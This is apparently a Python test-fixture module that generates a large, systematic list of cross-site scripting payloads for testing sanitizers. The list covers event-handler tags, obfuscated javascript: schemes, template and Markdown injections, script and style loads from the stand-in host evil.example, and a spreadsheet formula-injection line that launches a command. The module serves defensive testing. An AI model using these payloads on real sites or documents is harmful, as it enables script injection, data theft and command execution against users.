"""Payloads that would run, load or post something if any layer let them through. Written for the tests.

Built from few parts on purpose: every carrier of script meets every spelling that a filter may overlook.
"""

FIRE = "fired(1)"
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "javascript&colon;",
    "&#x6A;avascript:", "\x01javascript:", " javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,",
    "file:///", "blob:http://x/", "jar:", "view-source:javascript:", "feed:javascript:", "JAVASCRIPT://%0a",
]  # fmt: skip
EVENTS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart",
    "onpointerenter", "onwheel", "onbegin", "onstart", "oncopy", "oninput", "onbeforetoggle", "ontransitionend", "onscroll",
]  # fmt: skip
ELEMENTS = [
    "img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x", "details open", "input autofocus",
    "marquee", "object data=x", "embed src=x", "select autofocus", "a href=x", "p", "math", "style",
]  # fmt: skip
BLOCKS = [
    "<script>{f}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{f}</scr</script>ipt>",
    "<svg><script>{f}</script></svg>", "<iframe srcdoc='<script>parent.{f}</script>'></iframe>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{f}'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>body{{background:url(//evil.example/x)}}</style>", "<form action=//evil.example><button>Go</button></form>",
    "<button formaction=javascript:{f}>Go</button>", "<object data='javascript:{f}'></object>",
    "<embed src='data:text/html,<script>{f}</script>'>", "<template><script>{f}</script></template>",
    "<noscript><p title='</noscript><script>{f}</script>'>", "<!--><script>{f}</script>-->",
    "<![CDATA[<script>{f}</script>]]>", "<?xml version='1.0'?><script>{f}</script>",
    "<math><mi xlink:href='javascript:{f}'>x</mi></math>", "<svg><a xlink:href='javascript:{f}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={f}>'/></svg>", "<svg><animate onbegin={f} attributeName=x></svg>",
    "</textarea><script>{f}</script>", "</title><script>{f}</script>", "</script><script>{f}</script>",
    "\"><script>{f}</script>", "'><script>{f}</script>", "`><script>{f}</script>", "--><script>{f}</script>",
    "</style><script>{f}</script>", "\u2028<script>{f}</script>", "<\u0000script>{f}</script>".replace("\u0000", ""),
    "<script\u00a0>{f}</script>", "<img src=x:x onerror={f}//", "<div style='width:expression({f})'>",
    "<div style='background:url(javascript:{f})'>", "<a style='behavior:url(//evil.example/x.htc)'>x</a>",
    "{{{{constructor.constructor('{f}')()}}}}", "{{% raw %}}<script>{f}</script>", "${{{f}}}", "#{{{f}}}", "<%= {f} %>",
    "%3Cscript%3E{f}%3C/script%3E", "&lt;script&gt;{f}&lt;/script&gt;", "&#60;script&#62;{f}&#60;/script&#62;",
    "＜script＞{f}＜/script＞", "<script>{f}//", "<svg/onload={f}>", "<a href=\"x\" onclick={f}>x</a",
    "<picture><source srcset=x onerror={f}><img src=x onerror={f}></picture>", "<portal src=//evil.example>",
    "<frameset onload={f}>", "<keygen autofocus onfocus={f}>", "<isindex type=image src=1 onerror={f}>",
    "<x contenteditable onblur={f}>x</x>", "<input type=image src=x onerror={f}>", "<bgsound src=javascript:{f}>",
    "<table background=javascript:{f}>", "<td style='x:\\65xpression({f})'>", "<a href=//evil.example target=_blank>x</a>",
    "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|' /C calc'!A0", "\u202e<script>{f}</script>",
]  # fmt: skip
MARKDOWN = [
    "[x]({s}{f})", "![x]({s}{f})", "<{s}{f}>", "[x][r]\n\n[r]: {s}{f}", "[x](<{s}{f}>)", "[x](http://a.example \"t\" onclick={f})",
    "[<img src=x onerror={f}>](http://a.example)", "http://a.example/\"onmouseover={f}", "`<script>{f}</script>`",
    "[x](http://a.example/?q={s}{f})", "> <a href='{s}{f}'>x</a>", "- [x]({s}{f})",
]  # fmt: skip


def payloads():
    """Return every payload, each once, in a fixed order."""
    found = [f"<{element} {event}={FIRE}>" for element in ELEMENTS for event in EVENTS]
    found += [template.format(f=FIRE) for template in BLOCKS]
    found += [template.format(f=FIRE, s=scheme) for scheme in SCHEMES for template in MARKDOWN]
    found += [f'<a href="{scheme}{FIRE}">x</a>' for scheme in SCHEMES]
    return list(dict.fromkeys(found))
